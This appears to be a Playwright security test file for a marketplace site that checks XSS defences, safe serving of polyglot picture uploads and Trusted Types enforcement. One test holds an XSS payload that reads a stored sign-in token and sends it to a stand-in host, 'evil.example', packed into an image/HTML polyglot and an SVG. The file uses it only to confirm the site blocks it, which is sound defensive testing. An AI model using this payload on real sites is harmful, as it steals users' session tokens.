import { sql } from 'kysely'
import { signIn } from '#contract/accounts/rules.ts'
import { imageWidths } from '#contract/listings/images.ts'
import { links } from '#contract/urls.ts'
import { letSendFreely, openChat } from '#testkit/dealings/conversations.ts'
import { aListing, aSellerWithLot } from '#testkit/listings.ts'
import { aPerson } from '#testkit/people.ts'
import { aPicture, upload } from '#testkit/pictures.ts'
import { hostileTexts } from '../support/hostile-texts.ts'
import { expect, type Site, test, type Window } from '../support/journey.ts'

/** Records the dialogs, requests and scripts that a stranger's text could cause. */
function watch({ page, context }: Window, site: Site) {
  const seen: string[] = []
  page.on('dialog', dialog => {
    seen.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  context.on('request', request => {
    const { protocol, origin } = new URL(request.url())
    if (!['data:', 'blob:'].includes(protocol) && origin !== site.url) seen.push(`request to ${request.url()}`)
  })
  return {
    seen,
    check: async () => {
      if (await page.evaluate(() => 'hit' in window)) seen.push(`script ran on ${page.url()}`)
    },
  }
}

test('abuse case 29: user texts are shown as plain text on every screen', async ({ newWindow, site }) => {
  test.setTimeout(180_000)
  const { world } = site
  // every page shows all texts, so only some are also tried in titles, headings and addresses
  const someTexts = hostileTexts.filter((_, place) => place % 4 === 2)
  const seller = await aPerson(world, {
    name: hostileTexts[4]!,
    business: { name: hostileTexts[8]!, city: hostileTexts[30]! },
  })
  const buyer = await aPerson(world, { name: hostileTexts[12]!, business: { name: hostileTexts[32]! } })
  const listings: { id: string; name: string }[] = []
  for (const name of hostileTexts) {
    const { id } = await aListing(world, seller, { name, description: hostileTexts.join('\n') })
    listings.push({ id, name })
  }
  await world.db
    .updateTable('listings')
    .set({ specifications: sql`${JSON.stringify(hostileTexts.map(text => [text.slice(0, 60), text]))}::jsonb` })
    .where('user_id', '=', seller.id)
    .execute()
  const conversationId = await openChat(world, buyer, { createdFor: seller.id })
  await letSendFreely(world, [buyer])
  for (const message of hostileTexts) {
    const data = { conversationId, recieverId: seller.id, message }
    expect((await world.api('POST /message/create-message', { body: { data } }, buyer)).status).toBe(200)
  }

  const stranger = await newWindow()
  const outside = watch(stranger, site)
  const visit = async (path: string) => {
    await stranger.page.goto(path)
    await outside.check()
  }
  for (const text of someTexts) await visit(links.explore({ query: text.slice(0, 100) }))
  await expect(stranger.page.getByRole('searchbox').first()).toHaveValue(someTexts.at(-1)!)
  for (const { id, name } of listings.filter(listing => someTexts.includes(listing.name))) {
    await visit(links.product(id))
    await expect(stranger.page.getByRole('heading', { level: 1 })).toHaveText(name)
  }
  await visit('/')
  expect(outside.seen).toEqual([])

  for (const person of [seller, buyer]) {
    const own = await newWindow({ token: person.token })
    const inside = watch(own, site)
    for (const path of [
      links.dashboard(),
      links.myListings(),
      links.businessDetails(),
      links.messages(conversationId),
    ]) {
      await own.page.goto(path)
      await expect(own.page.getByRole('heading', { level: 1 })).toBeVisible()
      await expect(own.page.locator('main')).not.toContainText('Loading')
      await inside.check()
    }
    await expect(own.page.getByText(hostileTexts.at(-2)!, { exact: true }).first()).toBeAttached()
    expect(inside.seen).toEqual([])
  }
})

test('abuse case 25: a picture that is also HTML and a script opens as a picture', async ({ newWindow, site }) => {
  const { world } = site
  const seller = await aPerson(world)
  const script =
    '<html><body><script>window.hit=1;alert(localStorage.t);fetch("http://evil.example/"+localStorage.t)</script>'
  const picture = await aPicture({ format: 'png' })
  const polyglot = Buffer.concat([picture, Buffer.from(`${script}PK\u0003\u0004`)])
  const listing = await aListing(world, seller, { pictures: 0 })
  const answer = await upload(
    world,
    listing.id,
    [
      { content: polyglot, name: 'photo.jpg.html', type: 'text/html' },
      { content: polyglot, name: 'photo.svg', type: 'image/svg+xml' },
    ],
    seller,
  )
  expect(answer.status).toBe(200)
  expect(answer.body.images).toHaveLength(2)
  for (const content of [Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), Buffer.from(script)]) {
    expect((await upload(world, listing.id, [{ content }], seller)).status).toBe(415)
  }

  // the console reports that the policy also blocks the browser's own style around a picture, and scripts of this test
  const allow = /document is sandboxed|'allow-scripts' permission|Applying inline style/
  const victim = await newWindow({ allow })
  const { seen, check } = watch(victim, site)
  await victim.page.goto('/')
  await victim.page.evaluate(([key, token]) => localStorage.setItem(key!, token!), [signIn.tokenKey, seller.token])
  for (const address of answer.body.images) {
    for (const width of imageWidths) {
      const reply = await victim.page.goto(address.replace(/-\d+\.webp/, `-${width}.webp`))
      const headers = reply!.headers()
      expect(reply!.status()).toBe(200)
      expect(headers['content-type']).toBe('image/webp')
      expect(headers['x-content-type-options']).toBe('nosniff')
      expect(headers['content-security-policy']).toContain("default-src 'none'")
      expect(headers['content-security-policy']).toContain('sandbox')
      expect((await reply!.body()).includes('<script')).toBe(false)
      await check()
    }
  }
  expect(seen).toEqual([])
})

test('specifications that look like serialised page state do not break the page scripts', async ({
  openPage,
  site,
}) => {
  const { seller, id } = await aSellerWithLot(site.world, { status: 'Draft' })
  const specifications = { '~': 'a', '=': 'b' }
  const saved = await site.world.api(
    'PUT /deadstock/:id',
    { params: { id }, body: { data: { specifications } } },
    seller,
  )
  expect(saved.status).toBe(200)
  await site.world.db.updateTable('listings').set({ status: 'Active' }).where('id', '=', id).execute()
  const page = await openPage(links.product(id))
  await expect(page.getByRole('region', { name: 'Specifications' }).getByRole('definition')).toHaveText(['a', 'b'])
  await page.getByRole('button', { name: 'Report' }).click()
  await expect(page.getByRole('dialog')).toBeVisible()
})

test('pages allow only their own Trusted Types policies, and refuse text as a script', async ({ newWindow }) => {
  const { page } = await newWindow({ allow: /TrustedTypePolicy|TrustedScriptURL|TrustedHTML/ })
  for (const path of [links.home(), links.explore(), links.settings()]) {
    await page.goto(path)
    const became = await page.evaluate(() => {
      const attempt = (work: () => unknown) => {
        try {
          work()
          return 'allowed'
        } catch (error) {
          return error instanceof TypeError ? 'refused' : String(error)
        }
      }
      return [
        attempt(() => globalThis.trustedTypes?.createPolicy('default', { createScriptURL: url => url })),
        attempt(() => {
          document.createElement('script').src = '/site/push-worker.js'
        }),
        attempt(() => {
          document.createElement('div').innerHTML = '<b>text</b>'
        }),
      ]
    })
    expect(became).toEqual(['refused', 'refused', 'refused'])
  }
})
